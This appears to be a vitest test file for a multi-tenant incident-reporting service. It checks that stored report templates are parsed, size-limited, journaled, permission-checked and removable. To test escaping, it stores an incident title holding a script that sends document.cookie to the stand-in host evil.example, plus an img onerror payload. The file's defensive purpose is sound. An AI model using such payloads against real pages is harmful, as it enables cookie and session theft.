/**
 * issue 16: a tenant's stored report templates, on both databases. A template is parsed when it
 * is saved (a bad one is refused with its line, nothing stored), bounded at 64 KiB, journaled,
 * and used by default for every report of its kind; attacker-written incident text stays text
 * inside it; removing it brings the default layout back.
 */
import { DIALECTS, dialectAvailable } from '@cordon/storage/testing';
import { createHash } from 'node:crypto';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { TestServer } from '../test-server.ts';
import { bearer, startTestServer, system } from '../test-server.ts';

const HOSTILE = `Wiper on fs01 </h1><script>fetch("//evil.example/"+document.cookie)</script>{{title}}"'\``;
const TEMPLATE = [
  '<!doctype html><html><head><meta charset="utf-8"><title>{{title}}</title></head>',
  '<body class="acme-template"><h1>{{title}}</h1><p data-ref="{{reference}}">ACME {{kind}}</p>',
  '{{#each sections}}<section id="{{key}}"><h2>{{heading}}</h2>',
  '{{#each blocks}}{{#if isText}}<p>{{text}}</p>{{/if}}{{#if isFacts}}<dl>{{#each rows}}<dt>{{label}}</dt><dd>{{value}}</dd>{{/each}}</dl>{{/if}}{{/each}}',
  '</section>{{/each}}</body></html>',
].join('\n');

interface JournalRow {
  readonly kind: string;
  readonly payload: Record<string, unknown>;
}

for (const dialect of DIALECTS) {
  describe.skipIf(!dialectAvailable(dialect))(`stored report templates (${dialect})`, () => {
    let t: TestServer;
    let tenantId: string;
    let lead: Record<string, string>;
    let viewer: Record<string, string>;
    let incidentId: string;
    const api = (
      method: 'GET' | 'POST' | 'PUT' | 'DELETE',
      url: string,
      headers: Record<string, string>,
      payload?: object,
    ) =>
      t.server.app.inject({
        method,
        url: `/api/v1/tenants/${tenantId}${url}`,
        headers,
        ...(payload ? { payload } : {}),
      });
    const journal = async (): Promise<JournalRow[]> =>
      (await api('GET', '/journal?limit=1000', lead)).json();
    const reportHtml = async (kind: string): Promise<{ html: string; generated: JournalRow }> => {
      const answer = await api('POST', `/incidents/${incidentId}/reports`, lead, {
        kind,
        formats: ['html'],
      });
      expect(answer.statusCode).toBe(201);
      const file = answer.json().files[0].evidence.id;
      const content = await api('GET', `/evidence/${file}/content`, lead);
      expect(content.statusCode).toBe(200);
      const generated = (await journal()).filter((e) => e.kind === 'report.generated').at(-1)!;
      return { html: content.rawPayload.toString('utf8'), generated };
    };

    beforeAll(async () => {
      t = await startTestServer(dialect);
      tenantId = (await t.server.services.access.createTenant(system, 'Acme Freight')).id;
      lead = bearer(await t.token(tenantId, 'incident_lead'));
      viewer = bearer(await t.token(tenantId, 'client_viewer'));
      const created = await api('POST', '/incidents', lead, {
        title: HOSTILE,
        severity: 'critical',
        summary: '<img src=x onerror=alert(1)> {{#each sections}}',
      });
      expect(created.statusCode).toBe(201);
      incidentId = created.json().id;
    });
    afterAll(async () => {
      await t?.dispose();
    });

    it('refuses a bad template with its line, and one over 64 KiB, storing nothing', async () => {
      const bad = await api('PUT', '/report-templates/full', lead, {
        template: '<h1>{{title}}</h1>\n<p>\n{{{reference}}}</p>',
      });
      expect(bad.statusCode).toBe(400);
      expect(bad.json().error.message).toBe(
        'template line 3: unescaped output and partials do not exist',
      );
      const unclosed = await api('PUT', '/report-templates/full', lead, {
        template: 'a\nb\n\n{{#each sections}}\n<p>{{heading}}</p>',
      });
      expect(unclosed.statusCode).toBe(400);
      expect(unclosed.json().error.message).toBe('template line 4: {{#each}} is not closed');
      // 65,537 bytes in fewer characters than the schema's bound: the parser counts bytes.
      const big = await api('PUT', '/report-templates/full', lead, {
        template: `${'é'.repeat(32_768)}x`,
      });
      expect(big.statusCode).toBe(400);
      expect(big.json().error.message).toBe('a template is at most 65536 bytes');
      expect((await api('GET', '/report-templates/full', lead)).statusCode).toBe(404);
      expect((await api('GET', '/report-templates', lead)).json()).toEqual({ items: [] });
      expect((await journal()).some((e) => e.kind.startsWith('report.template'))).toBe(false);
    });

    it('stores a template, journaled, readable by a viewer and changed only by a writer', async () => {
      expect(
        (await api('PUT', '/report-templates/full', viewer, { template: TEMPLATE })).statusCode,
      ).toBe(403);
      const saved = await api('PUT', '/report-templates/full', lead, { template: TEMPLATE });
      expect(saved.statusCode).toBe(200);
      const sha256 = createHash('sha256').update(TEMPLATE, 'utf8').digest('hex');
      expect(saved.json()).toMatchObject({
        kind: 'full',
        sha256,
        bytes: Buffer.byteLength(TEMPLATE),
      });
      const read = await api('GET', '/report-templates/full', viewer);
      expect(read.statusCode).toBe(200);
      expect(read.json().template).toBe(TEMPLATE);
      expect((await api('GET', '/report-templates', viewer)).json().items).toEqual([
        expect.objectContaining({ kind: 'full', sha256 }),
      ]);
      const set = (await journal()).filter((e) => e.kind === 'report.template_set');
      expect(set).toHaveLength(1);
      expect(set[0]!.payload).toMatchObject({ report: 'full', sha256, replaced: null });
    });

    it('makes reports of that kind with it, and hostile incident text stays text', async () => {
      const { html, generated } = await reportHtml('full');
      expect(html).toContain('<body class="acme-template">');
      expect(html).toContain('data-ref="INC-1"');
      expect(html).not.toContain('<script>');
      expect(html).not.toContain('<img');
      expect(html).toContain('&#60;/h1&#62;&#60;script&#62;fetch(&#34;//evil.example/&#34;');
      // A tag written in incident text is not a tag of the template: it is printed, not run.
      expect(html).toContain('{{title}}&#34;&#39;&#96;');
      expect(html).toContain('&#60;img src&#61;x onerror&#61;alert(1)&#62; {{#each sections}}');
      expect(generated.payload).toMatchObject({
        report: 'full',
        template: 'stored',
        templateSha256: createHash('sha256').update(TEMPLATE, 'utf8').digest('hex'),
      });
      // Other kinds keep the default layout; a request's own template still wins.
      const executive = await reportHtml('executive');
      expect(executive.html).not.toContain('acme-template');
      expect(executive.generated.payload['template']).toBe('default');
      const own = await api('POST', `/incidents/${incidentId}/reports`, lead, {
        kind: 'full',
        formats: ['html'],
        template: '<p class="own">{{reference}}</p>',
      });
      expect(own.statusCode).toBe(201);
      const ownHtml = await api(
        'GET',
        `/evidence/${own.json().files[0].evidence.id}/content`,
        lead,
      );
      expect(ownHtml.rawPayload.toString('utf8')).toBe('<p class="own">INC-1</p>');
    });

    it('replaces and deletes it (journaled); the default layout comes back', async () => {
      const replaced = await api('PUT', '/report-templates/full', lead, {
        template: '<main class="v2">{{reference}} {{tenantName}}</main>',
      });
      expect(replaced.statusCode).toBe(200);
      expect((await reportHtml('full')).html).toBe('<main class="v2">INC-1 Acme Freight</main>');
      expect((await api('DELETE', '/report-templates/full', viewer)).statusCode).toBe(403);
      expect((await api('DELETE', '/report-templates/full', lead)).statusCode).toBe(204);
      expect((await api('DELETE', '/report-templates/full', lead)).statusCode).toBe(404);
      expect((await api('GET', '/report-templates/full', lead)).statusCode).toBe(404);
      const { html, generated } = await reportHtml('full');
      expect(html).not.toContain('v2');
      expect(html).toContain('content="default-src &#39;none&#39;');
      expect(generated.payload['template']).toBe('default');
      const kinds = (await journal())
        .filter((e) => e.kind.startsWith('report.template'))
        .map((e) => [e.kind, e.payload['replaced'] === null]);
      expect(kinds).toEqual([
        ['report.template_set', true],
        ['report.template_set', false],
        ['report.template_deleted', false],
      ]);
    });

    it('uses a stored monthly template for the monthly report', async () => {
      expect(
        (
          await api('PUT', '/report-templates/monthly', lead, {
            template: '<p class="month">{{reference}} {{#each sections}}[{{key}}]{{/each}}</p>',
          })
        ).statusCode,
      ).toBe(200);
      const month = new Date().toISOString().slice(0, 7);
      const answer = await api('POST', '/reports/monthly', lead, { month, formats: ['html'] });
      expect(answer.statusCode).toBe(201);
      const content = await api(
        'GET',
        `/evidence/${answer.json().files[0].evidence.id}/content`,
        lead,
      );
      const html = content.rawPayload.toString('utf8');
      expect(html).toMatch(/^<p class="month">Acme Freight · \d{4}-\d\d \[overview\]\[incidents\]/);
    });
  });
}
